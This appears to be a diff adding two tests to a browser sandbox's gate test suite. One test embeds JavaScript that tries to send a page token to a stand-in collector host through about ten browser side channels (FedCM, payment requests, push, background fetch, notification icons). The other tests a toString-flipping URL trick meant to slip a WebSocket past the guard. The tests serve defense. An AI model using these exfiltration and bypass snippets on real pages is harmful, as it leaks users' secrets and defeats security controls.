@@ -441,5 +441,48 @@ TEST(Gate, ASocketTheHandedPageOpenedBeforeTheClaimIsClosed) {
   (void)b.close_tab(*tab);
 }
 
+// What the browser process would send for a page (an identity provider's endpoints, a payment
+// app, a background download, a push subscription, a notification's icon, a deferred request,
+// a share) is not there in a held tab: each attempt fails at once and the collector hears
+// nothing. Background Sync, which ouro's Chromium keeps, is taken away by the in-page guard.
+TEST(Gate, WhatTheBrowserWouldSendForAHeldPageIsNotThere) {
+  GateLog log;
+  auto s = gated_session(safety::GateMode::Autonomous, log, false);
+  size_t collected = sites().collected().size();
+  json got = ok(fill(R"JS(await execInTab(activeTab, `(async () => {
+    const token = document.getElementById('token').textContent, out = {};
+    const attempt = async (name, f) => { try { await f(); out[name] = 'went'; } catch (e) { out[name] = 'refused'; } };
+    await attempt('fedcm', () => navigator.credentials.get({identity: {providers: [{configURL: '{{C}}/fedcm/config.json?t=' + token, clientId: 'x', nonce: token}]}}));
+    await attempt('payment', () => new PaymentRequest([{supportedMethods: '{{C}}/pay?t=' + token}], {total: {label: 't', amount: {currency: 'USD', value: '1'}}}).canMakePayment());
+    await attempt('share', () => navigator.share({url: '{{C}}/share?t=' + token}));
+    await attempt('fetchLater', () => fetchLater('{{C}}/later?t=' + token, {activateAfter: 0}));
+    await attempt('notification', () => new Notification('t', {icon: '{{C}}/icon?t=' + token}));
+    const reg = await navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready);
+    await attempt('backgroundFetch', () => reg.backgroundFetch.fetch('t', ['{{C}}/bgfetch?t=' + token]));
+    await attempt('sync', () => reg.sync.register('t'));
+    await attempt('periodicSync', () => reg.periodicSync.register('t', {minInterval: 1000}));
+    await attempt('push', () => reg.pushManager.subscribe({userVisibleOnly: true}));
+    await attempt('swNotification', () => reg.showNotification('t', {icon: '{{C}}/icon2?t=' + token}));
+    return out;
+  })()`))JS", ""),
+                s.get());
+  for (const auto& [name, outcome] : got.items()) EXPECT_EQ(outcome, "refused") << name;
+  EXPECT_EQ(got.size(), 10u) << got.dump();
+  EXPECT_EQ(sites().collected().size(), collected);
+}
+
+// The guard decides on the value it passes on: a URL object whose toString answers the allowed
+// site the first time and the attacker the second gets a socket to the URL that was checked.
+TEST(Gate, TheGuardConnectsToTheUrlItChecked) {
+  GateLog log;
+  auto s = gated_session(safety::GateMode::Autonomous, log, false);
+  std::string victim_ws = "ws" + sites().victim("/ok").substr(4);
+  json url = ok(fill("await execInTab(activeTab, \"let n = 0; const u = {toString() { return n++ ? 'ws://{{H}}/flip' : '" + victim_ws +
+                     "'; }}; const ws = new WebSocket(u); const url = ws.url; ws.close(); url\")", ""),
+                s.get());
+  EXPECT_EQ(url, victim_ws);
+  EXPECT_EQ(collected_lines("WEBSOCKET /flip") + collected_lines("WEBSOCKET-OPEN /flip"), 0u);
+}
+
 }  // namespace
 }  // namespace ouro::testing
